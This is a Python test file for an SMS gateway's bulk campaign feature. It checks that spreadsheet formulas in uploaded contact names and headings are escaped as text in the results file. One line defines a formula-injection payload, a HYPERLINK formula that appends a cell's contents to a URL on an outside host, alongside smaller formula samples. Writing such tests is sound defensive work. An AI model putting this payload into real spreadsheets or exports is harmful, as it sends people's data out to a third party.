"""Results are opened in spreadsheets: nothing that a stranger wrote runs there, and nothing of it is lost."""

from pathlib import Path

from smsgw import bulk
from smsgw.sheets import as_written
from tests.bulk.conftest import BulkWorld
from tests.bulk.test_bulk_campaign import results_of, sheet_of

EVIL = '=HYPERLINK("http://example.org/?"&A1, "ok")'


async def test_cells_and_headings_that_a_spreadsheet_would_run_are_text_in_the_results(
    world: BulkWorld, tmp_path: Path
) -> None:
    quoted = EVIL.replace('"', '""')
    source = bulk.CsvSource(
        sheet_of(
            tmp_path / "people.csv",
            "name,phone,=1+1",
            f'"{quoted}",+7 903 000-00-01,',
            f'"Anna;{quoted}",79030000002,-5',
            '"@SUM(1)",=1+1,+7 903',
        ),
        "Hi {name}",
    )
    sms = world.dispatcher(iba={})
    await bulk.run(sms, source, journal=world.journal, results=tmp_path / "out.csv")
    rows = results_of(tmp_path / "out.csv")
    assert [(row["phone"], row["state"], row["name"], row["'=1+1"]) for row in rows] == [
        ("+7 903 000-00-01", "accepted", f"'{EVIL}", ""),
        ("79030000002", "accepted", f"Anna;'{EVIL}", "-5"),
        ("'=1+1", "rejected", "'@SUM(1)", "+7 903"),
    ]
    assert [as_written(row["name"]) for row in rows] == [EVIL, f"Anna;{EVIL}", "@SUM(1)"]
    assert {message.text for message in world.ledger.messages} == {f"Hi {EVIL}", f"Hi Anna;{EVIL}"}
